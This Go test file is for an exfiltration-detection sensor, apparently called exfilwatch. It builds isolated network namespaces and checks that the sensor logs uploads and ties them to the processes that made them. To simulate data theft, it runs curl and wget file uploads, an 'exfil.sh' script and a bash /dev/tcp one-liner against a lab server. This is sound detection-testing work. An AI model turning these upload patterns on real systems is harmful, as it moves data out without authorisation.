package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// lab is the test network: a "host" namespace (the sensor and the clients;
// it stands for the Mac) and a "remote" namespace (servers) joined by a veth
// pair, addressed from 198.18.0.0/15 and 2001:2::/48, with no default route.
// The test creates it and removes it.
type lab struct {
	t               *testing.T
	host, remote    string
	hostIf, remIf   string
	hostIP, remIP   string
	hostIP6, remIP6 string
}

func requireRoot(t *testing.T) {
	t.Helper()
	if testing.Short() {
		t.Skip("live lab test: skipped with -short")
	}
	if os.Geteuid() != 0 {
		t.Skip("live lab test needs root (network namespaces, AF_PACKET); make test runs it as root")
	}
	for _, tool := range []string{"ip", "curl", "python3"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s not installed: run make deps", tool)
		}
	}
}

func newLab(t *testing.T, subnet int) *lab {
	t.Helper()
	id := fmt.Sprintf("%d-%d", os.Getpid()%100000, subnet)
	l := &lab{
		t: t, host: "exfw-t-host-" + id, remote: "exfw-t-rem-" + id,
		hostIf: "exfwh" + id, remIf: "exfwr" + id,
		hostIP: fmt.Sprintf("198.18.%d.1", subnet), remIP: fmt.Sprintf("198.18.%d.2", subnet),
		hostIP6: fmt.Sprintf("2001:2:0:%x::1", subnet), remIP6: fmt.Sprintf("2001:2:0:%x::2", subnet),
	}
	if len(l.hostIf) > 15 {
		l.hostIf, l.remIf = l.hostIf[:15], l.remIf[:15]
	}
	t.Cleanup(l.destroy)
	l.must("ip", "netns", "add", l.host)
	l.must("ip", "netns", "add", l.remote)
	l.must("ip", "link", "add", l.hostIf, "type", "veth", "peer", "name", l.remIf)
	l.must("ip", "link", "set", l.hostIf, "netns", l.host)
	l.must("ip", "link", "set", l.remIf, "netns", l.remote)
	for _, ns := range []struct{ ns, ifc, v4, v6 string }{{l.host, l.hostIf, l.hostIP, l.hostIP6}, {l.remote, l.remIf, l.remIP, l.remIP6}} {
		l.must("ip", "-n", ns.ns, "addr", "add", ns.v4+"/24", "dev", ns.ifc)
		l.must("ip", "-n", ns.ns, "addr", "add", ns.v6+"/64", "dev", ns.ifc, "nodad")
		l.must("ip", "-n", ns.ns, "link", "set", ns.ifc, "up")
		l.must("ip", "-n", ns.ns, "link", "set", "lo", "up")
	}
	// Both ends must answer before any test traffic is sent.
	deadline := time.Now().Add(10 * time.Second)
	for {
		err4 := exec.Command("ip", "netns", "exec", l.host, "ping", "-c1", "-W1", l.remIP).Run()
		err6 := exec.Command("ip", "netns", "exec", l.host, "ping", "-6", "-c1", "-W1", l.remIP6).Run()
		if err4 == nil && err6 == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("lab namespaces not reachable: v4 %v v6 %v", err4, err6)
		}
		time.Sleep(100 * time.Millisecond)
	}
	return l
}

func (l *lab) must(args ...string) {
	l.t.Helper()
	if out, err := exec.Command(args[0], args[1:]...).CombinedOutput(); err != nil {
		l.t.Fatalf("%s: %v\n%s", strings.Join(args, " "), err, out)
	}
}

func (l *lab) destroy() {
	exec.Command("ip", "netns", "pids", l.host).Run()
	for _, ns := range []string{l.host, l.remote} {
		if out, err := exec.Command("ip", "netns", "pids", ns).Output(); err == nil {
			for _, p := range strings.Fields(string(out)) {
				exec.Command("kill", "-9", p).Run()
			}
		}
		exec.Command("ip", "netns", "del", ns).Run()
	}
}

// in runs a command in a namespace.
func (l *lab) in(ns string, args ...string) *exec.Cmd {
	return exec.Command("ip", append([]string{"netns", "exec", ns}, args...)...)
}

// httpServer starts a python3 upload server in the remote namespace.
func (l *lab) httpServer(port int, extra ...string) {
	l.t.Helper()
	srv, err := filepath.Abs(filepath.Join("..", "..", "captures", "lab", "upload_server.py"))
	if err != nil {
		l.t.Fatal(err)
	}
	var errb bytes.Buffer
	for _, bind := range []string{l.remIP, l.remIP6} { // the server is single-stack
		cmd := l.in(l.remote, append([]string{"python3", srv, "--port", fmt.Sprint(port), "--bind", bind}, extra...)...)
		cmd.Stderr = &errb
		if err := cmd.Start(); err != nil {
			l.t.Fatal(err)
		}
		l.t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	}
	deadline := time.Now().Add(10 * time.Second)
	for exec.Command("ip", "netns", "exec", l.host, "curl", "-s", "-o", "/dev/null", fmt.Sprintf("http://%s:%d/status", l.remIP, port)).Run() != nil {
		if time.Now().After(deadline) {
			l.t.Fatalf("upload server did not start: %s", errb.String())
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func buildBinary(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "exfilwatch")
	if out, err := exec.Command("go", "build", "-o", bin, ".").CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	return bin
}

func readEvents(t *testing.T, path string) []map[string]any {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var evs []map[string]any
	sc := bufio.NewScanner(bytes.NewReader(b))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("bad event line %q: %v", sc.Text(), err)
		}
		evs = append(evs, m)
	}
	return evs
}

func get(m map[string]any, path ...string) any {
	var cur any = m
	for _, p := range path {
		mm, ok := cur.(map[string]any)
		if !ok {
			return nil
		}
		cur = mm[p]
	}
	return cur
}

// TestRunLiveCapture runs `exfilwatch run` on the host namespace's veth while
// real curl and python3 clients upload to a real server in the remote
// namespace, then stops it with SIGINT: the uploads must be in the events,
// and the open flows flushed.
func TestRunLiveCapture(t *testing.T) {
	requireRoot(t)
	bin := buildBinary(t)
	l := newLab(t, 200)
	l.httpServer(8080)
	evFile := filepath.Join(t.TempDir(), "events.jsonl")
	var stderr bytes.Buffer
	sensor := l.in(l.host, bin, "--log-format", "json", "run", "--interface", l.hostIf, "--events", evFile, "--stats-interval", "1s")
	sensor.Stderr = &stderr
	if err := sensor.Start(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, &stderr, `"message":"capturing"`)
	time.Sleep(300 * time.Millisecond) // the ring is bound once "capturing" is logged
	payload := filepath.Join(t.TempDir(), "doc.bin")
	os.WriteFile(payload, bytes.Repeat([]byte("confidential "), 2000), 0o644) // 26000 bytes
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if out, err := exec.CommandContext(ctx, "ip", "netns", "exec", l.host, "curl", "-sS", "-F", "file=@"+payload, fmt.Sprintf("http://%s:8080/upload/live", l.remIP)).CombinedOutput(); err != nil {
		t.Fatalf("curl: %v %s", err, out)
	}
	if out, err := exec.CommandContext(ctx, "ip", "netns", "exec", l.host, "python3", "-c",
		fmt.Sprintf(`import http.client; c=http.client.HTTPConnection("%s",8080); c.request("PUT","/put/live6",body=b"x"*5000); print(c.getresponse().status)`, l.remIP6)).CombinedOutput(); err != nil {
		t.Fatalf("python3: %v %s", err, out)
	}
	// A connection still open at SIGINT must be flushed.
	hold := l.in(l.host, "python3", "-c", fmt.Sprintf(`import socket,time; s=socket.create_connection(("%s",8080)); s.sendall(b"POST /open HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n"+b"y"*3000); time.sleep(30)`, l.remIP))
	hold.Start()
	defer func() { hold.Process.Kill(); hold.Wait() }()
	time.Sleep(700 * time.Millisecond)
	sensor.Process.Signal(syscall.SIGINT)
	done := make(chan error, 1)
	go func() { done <- sensor.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("run exited with %v\n%s", err, stderr.String())
		}
	case <-time.After(15 * time.Second):
		sensor.Process.Kill()
		t.Fatalf("run did not stop on SIGINT\n%s", stderr.String())
	}
	evs := readEvents(t, evFile)
	var multipart, put6, open bool
	for _, e := range evs {
		if get(e, "event", "dataset") != "http" {
			continue
		}
		switch get(e, "url", "original") {
		case "/upload/live":
			parts, _ := get(e, "exfilwatch", "multipart").([]any)
			if len(parts) == 1 && get(parts[0].(map[string]any), "bytes") == float64(26000) && get(e, "http", "response", "status_code") == float64(200) && get(e, "network", "direction") == "outbound" {
				multipart = true
			}
		case "/put/live6":
			put6 = get(e, "http", "request", "body", "bytes") == float64(5000) && get(e, "network", "type") == "ipv6"
		case "/open":
			open = get(e, "http", "request", "body", "bytes") == float64(3000) && get(e, "http", "response") == nil
		}
	}
	if !multipart || !put6 || !open {
		t.Fatalf("events missing (multipart %v, ipv6 put %v, open at SIGINT %v):\n%d events\n%s", multipart, put6, open, len(evs), stderr.String())
	}
	if !strings.Contains(stderr.String(), `"kernel_received"`) || !strings.Contains(stderr.String(), `"message":"stopped"`) {
		t.Fatalf("no kernel counters logged:\n%s", stderr.String())
	}
}

func waitFor(t *testing.T, b *bytes.Buffer, s string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(b.String(), s) {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %q in:\n%s", s, b.String())
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// TestRunAttributesProcesses checks, on live traffic from real clients, that
// each upload names the process that made it — its pid, executable and
// arguments, and the shell script above it — including a process that lives
// well under 50 ms and two clients reusing the same local port; then that
// `replay DIR` of the recording gives the same events.
func TestRunAttributesProcesses(t *testing.T) {
	requireRoot(t)
	bin := buildBinary(t)
	l := newLab(t, 201)
	l.httpServer(8080)
	l.httpServer(8081)
	dir := t.TempDir()
	recDir := filepath.Join(dir, "rec")
	evFile := filepath.Join(dir, "live.jsonl")
	var stderr bytes.Buffer
	sensor := l.in(l.host, bin, "--log-format", "json", "run", "--interface", l.hostIf, "--events", evFile, "--record", recDir)
	sensor.Stderr = &stderr
	if err := sensor.Start(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, &stderr, `"message":"capturing"`)
	time.Sleep(300 * time.Millisecond)
	url := fmt.Sprintf("http://%s:8080", l.remIP)
	payload := filepath.Join(dir, "report.pdf")
	os.WriteFile(payload, bytes.Repeat([]byte("%PDF-1.7 quarterly numbers "), 500), 0o644)

	type client struct {
		target string
		cmd    []string
		exe    string // suffix of process.executable
		arg    string // an argument process.args must hold
		parent string // process.parent.name, when checked
		pid    int
	}
	script := filepath.Join(dir, "exfil.sh")
	os.WriteFile(script, []byte("#!/bin/sh\ncurl -s -o /dev/null -T "+payload+" "+url+"/put/from-script\n"), 0o755)
	clients := []*client{
		{target: "/put/curl", cmd: []string{"curl", "-s", "-o", "/dev/null", "-T", payload, url + "/put/curl"}, exe: "curl", arg: "-T"},
		// wget posts twice, 30 ms apart: the first upload's process lives
		// about 40 ms after it.
		{target: "/upload/wget", cmd: []string{"wget", "-q", "-O", "/dev/null", "--wait=0.03", "--post-file=" + payload, url + "/upload/wget", url + "/upload/wget2"}, exe: "wget", arg: "--post-file=" + payload},
		// A one-shot client that lives about 35 ms in all (well under 50).
		// It waits with a builtin: a forked child would share its socket.
		{target: "/put/short", cmd: []string{"bash", "-c", fmt.Sprintf(`exec 4< <(sleep 1 2>/dev/null); exec 3<>/dev/tcp/%s/8080; printf 'PUT /put/short HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello' >&3; read -t 0.03 -u 4 x; exit 0`, l.remIP)}, exe: "bash", arg: "-c"},
		{target: "/put/from-script", cmd: []string{"/bin/sh", script}, exe: "curl", arg: "-T", parent: "sh"},
		// Two clients, one after the other, from the same local port.
		{target: "/put/port-a", cmd: []string{"python3", "-S", "-c", fmt.Sprintf(`import socket,time;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("%s",45999));s.connect(("%s",8080));s.sendall(b"PUT /put/port-a HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\n0123456789");s.recv(100);time.sleep(0.03)`, l.hostIP, l.remIP)}, exe: "python3", arg: "-c"},
		{target: "/put/port-b", cmd: []string{"python3", "-S", "-c", fmt.Sprintf(`import socket,time;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("%s",45999));s.connect(("%s",8081));s.sendall(b"PUT /put/port-b HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\n0123456789");s.recv(100);time.sleep(0.03)`, l.hostIP, l.remIP)}, exe: "python3", arg: "-c"},
	}
	for _, c := range clients {
		cmd := l.in(l.host, c.cmd...)
		start := time.Now()
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %v %s", c.cmd, err, out)
		}
		t.Logf("%s lived %v", c.target, time.Since(start))
		// ip netns exec execs the client in place: the pid is the client's.
		c.pid = cmd.ProcessState.Pid()
		if c.parent == "sh" {
			c.pid = 0 // curl is the shell's child; its pid is not known here
		}
		time.Sleep(200 * time.Millisecond)
	}
	time.Sleep(time.Second)
	sensor.Process.Signal(syscall.SIGINT)
	if err := sensor.Wait(); err != nil {
		t.Fatalf("run: %v\n%s", err, stderr.String())
	}
	evs := readEvents(t, evFile)
	byTarget := map[string]map[string]any{}
	for _, e := range evs {
		if get(e, "event", "dataset") == "http" {
			byTarget[get(e, "url", "original").(string)] = e
		}
	}
	for _, c := range clients {
		e := byTarget[c.target]
		if e == nil {
			t.Errorf("%s: no http event", c.target)
			continue
		}
		if get(e, "exfilwatch", "attribution", "status") != "attributed" {
			t.Errorf("%s: not attributed: %v", c.target, get(e, "exfilwatch", "attribution"))
			continue
		}
		exe, _ := get(e, "process", "executable").(string)
		args, _ := get(e, "process", "args").([]any)
		hasArg := false
		for _, a := range args {
			hasArg = hasArg || a == c.arg
		}
		if !strings.HasPrefix(filepath.Base(exe), c.exe) || !hasArg {
			t.Errorf("%s: process %v %v, want executable *%s with argument %q", c.target, exe, args, c.exe, c.arg)
		}
		if c.pid != 0 && get(e, "process", "pid") != float64(c.pid) {
			t.Errorf("%s: pid %v, want %d", c.target, get(e, "process", "pid"), c.pid)
		}
		if c.parent != "" && get(e, "process", "parent", "name") != c.parent {
			t.Errorf("%s: parent %v, want %s", c.target, get(e, "process", "parent"), c.parent)
		}
	}
	// The recording replays to the same events, attribution included.
	replayed := filepath.Join(dir, "replayed.jsonl")
	if out, err := exec.Command(bin, "replay", "--no-summary", "--events", replayed, recDir).CombinedOutput(); err != nil {
		t.Fatalf("replay %s: %v %s", recDir, err, out)
	}
	strip := func(evs []map[string]any) []string {
		var out []string
		for _, e := range evs {
			if x, ok := e["exfilwatch"].(map[string]any); ok {
				delete(x, "pcap")
			}
			b, _ := json.Marshal(e)
			out = append(out, string(b))
		}
		return out
	}
	live, rep := strip(evs), strip(readEvents(t, replayed))
	if len(live) != len(rep) {
		t.Fatalf("replay gave %d events, live %d", len(rep), len(live))
	}
	for i := range live {
		if live[i] != rep[i] {
			t.Fatalf("event %d differs:\nlive   %s\nreplay %s", i, live[i], rep[i])
		}
	}
}

// TestRunAnyCountsLoopbackOnce captures with --interface any in a namespace
// holding only its loopback: AF_PACKET sees each loopback packet going out
// and coming in, and the sensor must count it once (duplicates would show
// as retransmissions and double packet counts).
func TestRunAnyCountsLoopbackOnce(t *testing.T) {
	requireRoot(t)
	bin := buildBinary(t)
	ns := fmt.Sprintf("exfw-t-any-%d", os.Getpid()%100000)
	if out, err := exec.Command("ip", "netns", "add", ns).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	defer exec.Command("ip", "netns", "del", ns).Run()
	exec.Command("ip", "netns", "exec", ns, "ip", "link", "set", "lo", "up").Run()
	evFile := filepath.Join(t.TempDir(), "events.jsonl")
	var stderr bytes.Buffer
	sensor := exec.Command("ip", "netns", "exec", ns, bin, "--log-format", "json", "run", "--interface", "any", "--events", evFile)
	sensor.Stderr = &stderr
	if err := sensor.Start(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, &stderr, `"message":"capturing"`)
	time.Sleep(300 * time.Millisecond)
	client := `import socket,threading,time
s=socket.socket(); s.bind(("127.0.0.1",8099)); s.listen()
def srv():
    c,_=s.accept(); c.recv(1000); c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"); time.sleep(0.1); c.close()
threading.Thread(target=srv).start()
c=socket.create_connection(("127.0.0.1",8099)); c.sendall(b"POST /any HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\nabcd"); c.recv(100); time.sleep(0.2); c.close()`
	if out, err := exec.Command("ip", "netns", "exec", ns, "python3", "-c", client).CombinedOutput(); err != nil {
		t.Fatalf("client: %v %s", err, out)
	}
	time.Sleep(500 * time.Millisecond)
	sensor.Process.Signal(syscall.SIGINT)
	if err := sensor.Wait(); err != nil {
		t.Fatalf("run: %v\n%s", err, stderr.String())
	}
	var flow map[string]any
	for _, e := range readEvents(t, evFile) {
		if get(e, "event", "dataset") == "flow" {
			flow = e
		}
	}
	if flow == nil {
		t.Fatalf("no flow event\n%s", stderr.String())
	}
	if r := get(flow, "exfilwatch", "flow_summary", "retransmits"); r != nil {
		t.Fatalf("loopback packets counted twice: %v retransmits", r)
	}
	if get(flow, "exfilwatch", "attribution", "status") != "attributed" || get(flow, "network", "direction") != "internal" {
		t.Fatalf("flow %v", flow)
	}
}

// TestRunRecordsFileAccesses watches a private tmpfs with --watch-path: the
// file a client reads before uploading it is in the recording's journal,
// with the process that read it.
func TestRunRecordsFileAccesses(t *testing.T) {
	requireRoot(t)
	bin := buildBinary(t)
	l := newLab(t, 202)
	l.httpServer(8080)
	docs := filepath.Join(t.TempDir(), "Documents")
	os.MkdirAll(docs, 0o755)
	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", docs).CombinedOutput(); err != nil {
		t.Fatalf("mount tmpfs: %v %s", err, out)
	}
	defer exec.Command("umount", docs).Run()
	secret := filepath.Join(docs, "q3-board.pdf")
	os.WriteFile(secret, bytes.Repeat([]byte("confidential "), 300), 0o644)
	recDir := filepath.Join(t.TempDir(), "rec")
	var stderr bytes.Buffer
	sensor := l.in(l.host, bin, "--log-format", "json", "run", "--interface", l.hostIf, "--events", os.DevNull, "--record", recDir, "--watch-path", docs)
	sensor.Stderr = &stderr
	if err := sensor.Start(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, &stderr, `"message":"capturing"`)
	time.Sleep(300 * time.Millisecond)
	cmd := l.in(l.host, "curl", "-s", "-o", "/dev/null", "-T", secret, fmt.Sprintf("http://%s:8080/put/q3", l.remIP))
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("curl: %v %s", err, out)
	}
	time.Sleep(500 * time.Millisecond)
	sensor.Process.Signal(syscall.SIGINT)
	if err := sensor.Wait(); err != nil {
		t.Fatalf("run: %v\n%s", err, stderr.String())
	}
	b, err := os.ReadFile(filepath.Join(recDir, recordJournal))
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, line := range strings.Split(string(b), "\n") {
		var rec struct {
			Type string
			File *struct {
				PID     int32
				Path    string
				Access  string
				Process *struct{ Executable string }
			}
		}
		if json.Unmarshal([]byte(line), &rec) != nil || rec.Type != "file_access" || rec.File == nil {
			continue
		}
		if rec.File.Path == secret && rec.File.Access == "read" && rec.File.PID == int32(cmd.ProcessState.Pid()) &&
			rec.File.Process != nil && strings.HasSuffix(rec.File.Process.Executable, "curl") {
			found = true
		}
	}
	if !found {
		t.Fatalf("no file_access record of curl reading %s in the journal:\n%s", secret, b)
	}
}
